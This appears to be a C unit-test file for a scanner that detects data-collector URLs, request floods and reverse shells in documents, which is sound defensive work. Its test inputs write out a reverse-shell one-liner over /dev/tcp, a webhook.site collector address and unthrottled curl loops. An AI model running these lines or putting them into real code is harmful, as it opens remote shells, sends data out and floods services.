#include "scan/traffic.h"
#include "tests/check.h"

static char rule[64];

/* How many findings ${text} gives; the first one's rule is in ${rule}. */
static size_t
found(const char *text, enum pan_doc_kind kind)
{
	struct pan_arena *a = pan_arena_new(16 << 20);
	struct pan_findings fs = { .arena = a };
	struct pan_doc d = { .path = "a", .kind = kind, .text = pan_str(text) };
	struct pan_context c;
	size_t n;

	CHECK_INT(pan_context_read(a, &d, &c), PAN_OK);
	pan_traffic_check(&c, &fs);
	n = fs.n;
	(void)snprintf(rule, sizeof(rule), "%.*s", n == 0 ? 0 : (int)fs.item[0].rule.n,
	    n == 0 ? "" : fs.item[0].rule.s);
	pan_arena_free(a);
	return n;
}

TEST(a_collectors_own_address_is_found_and_a_placeholder_is_not)
{
	CHECK_INT(found("url = 'https://webhook.site/358866c4-81c6-4c30'\n",
	              PAN_DOC_PYTHON),
	    1);
	CHECK_STR(rule, "pan:drop-address");
	CHECK_INT(found("base: https://a1b2c3.ngrok-free.dev/oauth/callback\n",
	              PAN_DOC_YAML),
	    1);
	CHECK_INT(found("Use https://webhook.site/<your-id> to test.\n",
	              PAN_DOC_MARKDOWN),
	    0);
	CHECK_INT(found("https://api.telegram.org/bot$TOKEN/sendMessage\n",
	              PAN_DOC_SHELL),
	    0);
	CHECK_INT(found("https://docs.example.com/v2/guide/12345\n", PAN_DOC_MARKDOWN),
	    0);
	CHECK_INT(found("## Red flags\n\n- https://webhook.site/358866c4-81c6-4c30\n",
	              PAN_DOC_MARKDOWN),
	    0);
}

TEST(a_loop_that_never_pauses_is_found)
{
	CHECK_INT(found("while true; do\n curl -s https://a.b/c\ndone\n", PAN_DOC_SHELL),
	    1);
	CHECK_STR(rule, "pan:floods");
	CHECK_INT(found("for i in range(1000):\n    requests.get('https://a.b')\n",
	              PAN_DOC_PYTHON),
	    1);
	CHECK_INT(found("for i in $(seq 1 5000); do curl x; done\n", PAN_DOC_SHELL), 1);
	CHECK_INT(found("while true; do\n curl -s https://a.b/c\n sleep 5\ndone\n",
	              PAN_DOC_SHELL),
	    0);
	CHECK_INT(found("for i in range(3):\n    requests.get('https://a.b')\n",
	              PAN_DOC_PYTHON),
	    0);
	CHECK_INT(found("while true; do\n echo\ndone\ncurl x\n", PAN_DOC_SHELL), 0);
}

TEST(a_shell_on_a_connection_is_found_also_in_a_string)
{
	CHECK_INT(found("s = \"\"\"\nbash -i >& /dev/tcp/a.b/4444 0>&1\n\"\"\"\n",
	              PAN_DOC_PYTHON),
	    1);
	CHECK_STR(rule, "pan:reverse-shell");
	CHECK_INT(found("timeout 1 bash -c '</dev/tcp/localhost/80'\n", PAN_DOC_SHELL),
	    0);
	CHECK_INT(found("Never run `bash -i >& /dev/tcp/a.b/4444 0>&1`.\n",
	              PAN_DOC_MARKDOWN),
	    0);
}

int
main(void)
{
	RUN(a_collectors_own_address_is_found_and_a_placeholder_is_not);
	RUN(a_loop_that_never_pauses_is_found);
	RUN(a_shell_on_a_connection_is_found_also_in_a_string);
	return DONE();
}
